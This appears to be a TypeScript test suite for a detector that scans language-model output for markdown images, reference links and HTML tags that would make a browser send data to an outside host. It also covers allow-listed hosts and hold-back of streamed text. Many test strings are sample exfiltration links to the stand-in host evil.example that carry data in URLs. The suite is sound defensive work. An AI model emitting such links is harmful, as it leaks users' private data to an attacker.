import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { compileGlobs } from '../../src/config/glob.ts';
import { exfilHost, findExfilLinks, unfinishedImageStart } from '../../src/detect/links.ts';

const NOTHING_ALLOWED = (): boolean => false;
const found = (text: string, allowed = NOTHING_ALLOWED) => findExfilLinks(text, allowed).map((l) => [text.slice(l.start, l.end), l.host]);

describe('images in model output that would carry data out', () => {
  test('markdown images, inline, with nested labels, angle brackets, parentheses and titles', () => {
    const image = '![x](https://evil.example/p.png?d=Jane%20Doe)';
    assert.deepEqual(found(`Done. ${image} Bye.`), [[image, 'evil.example']]);
    for (const construct of [
      '![a [b] c](https://evil.example/i.gif?q=1 "title")',
      '![x](<https://evil.example/a b?c=1>)',
      '![x](https://evil.example/wiki/Foo_(bar)?d=2)',
      '![x](//evil.example/x.png?d=1)',
      '![x](\\\\evil.example/x.png?d=1)', // a browser reads backslashes as slashes here
      '![x](HTTPS://EVIL.example/x.png?d=1)',
      '![x](https://user:pw@evil.example/x.png)',
      '![](https://evil.example/aGVsbG8gd29ybGQgdGhpcyBpcyBkYXRh.png)',
    ]) assert.deepEqual(found(`a ${construct} b`), [[construct, 'evil.example']], construct);
  });

  test('reference definitions, whatever uses them, and HTML img in any case', () => {
    assert.deepEqual(found('See ![c][r].\n\n  [r]: https://evil.example/c.png?r=4471 "t"'), [['[r]: https://evil.example/c.png?r=4471', 'evil.example']]);
    assert.deepEqual(found('<IMG alt="x" SRC="https://evil.example/x.png?d=1">'), [['<IMG alt="x" SRC="https://evil.example/x.png?d=1">', 'evil.example']]);
    assert.deepEqual(found("<img src='https://evil.example/t.gif?u=1'/>"), [["<img src='https://evil.example/t.gif?u=1'/>", 'evil.example']]);
    assert.deepEqual(found('<img data-src="x" src=https://evil.example/t.gif?u=1>'), [['<img data-src="x" src=https://evil.example/t.gif?u=1>', 'evil.example']]);
  });

  test('other elements that fetch on display, srcset, and a > inside a quoted value', () => {
    for (const tag of [
      '<img alt="a > b" src="https://evil.example/x.png?d=1">',
      '<img srcset="https://cdn.example.org/a.png 1x, https://evil.example/b.png?d=1 2x">',
      '<picture><source srcset="https://evil.example/p.webp?d=1"></picture>',
      '<video poster="https://evil.example/v.jpg?d=1"></video>',
      '<iframe src="https://evil.example/frame?d=1"></iframe>',
      '<svg><image href="https://evil.example/s.png?d=1"/></svg>',
    ]) {
      const links = findExfilLinks(`Report: ${tag} end`, NOTHING_ALLOWED);
      assert.equal(links.length, 1, tag);
      assert.equal(links[0]?.host, 'evil.example', tag);
    }
    assert.deepEqual(found('<a href="https://evil.example/?d=1">a link needs a click</a>'), []);
    assert.deepEqual(found('<img src="https://evil.example/x.png?d=1"'), [], 'not closed: no browser fetches it yet');
  });

  test('what cannot carry data out is left alone', () => {
    for (const text of [
      'Plain answer with no image.',
      '![logo](https://cdn.example.org/brand/2026/logo-dark.png)', // static: short path segments, no query
      '[a link](https://evil.example/form?id=4471)', // a link needs a click and shows its address
      'https://evil.example/?d=bare-url',
      '![rel](/images/a.png?x=1)', // relative: the page's own origin
      '![inline](data:image/png;base64,iVBORw0KGgo=)',
      '![js](javascript:alert(1))',
      '![unclosed](https://evil.example/p.png?d=1',
      'x [r]: https://evil.example/?d=1', // a definition only at the start of a line
      '<imgx src="https://evil.example/?d=1">',
    ]) assert.deepEqual(found(text), [], text);
  });

  test('allowed hosts, exact and by glob', () => {
    const allowed = compileGlobs(['imaging.hospital.example', '*.cdn.example']);
    assert.equal(exfilHost('https://imaging.hospital.example/v.png?study=1', allowed), undefined);
    assert.equal(exfilHost('https://eu.cdn.example/v.png?study=1', allowed), undefined);
    assert.equal(exfilHost('https://hospital.example.evil.example/v.png?study=1', allowed), 'hospital.example.evil.example');
    // The host judged is the host a browser would fetch: user info and case do not disguise it.
    assert.equal(exfilHost('https://imaging.hospital.example@evil.example/v.png', allowed), 'evil.example');
    assert.equal(exfilHost('https://IMAGING.Hospital.Example/v.png?s=1', allowed), undefined);
  });

  test('hostile output stays linear and fails closed when its scanning budget is spent', () => {
    for (const hostile of ['![a]('.repeat(200_000), '['.repeat(1_000_000), '<img'.repeat(250_000), '![a](<'.repeat(100_000), '[a]:'.repeat(250_000), '<img src='.repeat(100_000) + '>']) {
      const started = performance.now();
      const links = findExfilLinks(hostile, NOTHING_ALLOWED);
      // Generous: linear work takes tens of ms here; the quadratic version of one case took a minute.
      assert.ok(performance.now() - started < 5_000, `${hostile.slice(0, 8)}... took too long`);
      assert.ok(links.length <= 1);
    }
    const spent = findExfilLinks('![a]('.repeat(200_000), NOTHING_ALLOWED);
    assert.deepEqual(spent.map((l) => [l.host, l.end]), [['unknown', 1_000_000]]);
  });
});

describe('how much of a streamed text to hold back', () => {
  const held = (text: string) => text.length - unfinishedImageStart(text);
  test('an image, definition or tag not finished yet is held from its start', () => {
    assert.equal(held('Hello ![x](https://evil'), '![x](https://evil'.length);
    assert.equal(held('Hello ![x'), 3);
    assert.equal(held('Hello!'), 1);
    assert.equal(held('Done.\n[r]: https://e'), '[r]: https://e'.length);
    assert.equal(held('x <im'), 3);
    assert.equal(held('x <img src="http'), '<img src="http'.length);
    assert.equal(held('x <img alt="a > b" src="https://ev'), '<img alt="a > b" src="https://ev'.length, 'a > in a quoted value does not close the tag');
    assert.equal(held('x <vid'), 4);
    assert.equal(held('<img src="https://evil.example/x.png?d=1"> then <iframe title="t'), '<iframe title="t'.length);
  });
  test('finished constructs and ordinary text are released at once', () => {
    assert.equal(held('ok ![done](https://a/b.png) and more'), 0);
    assert.equal(held('Wow! That is <b>bold</b> text.'), 0);
    assert.equal(held('a < b and c'), 0);
  });
});
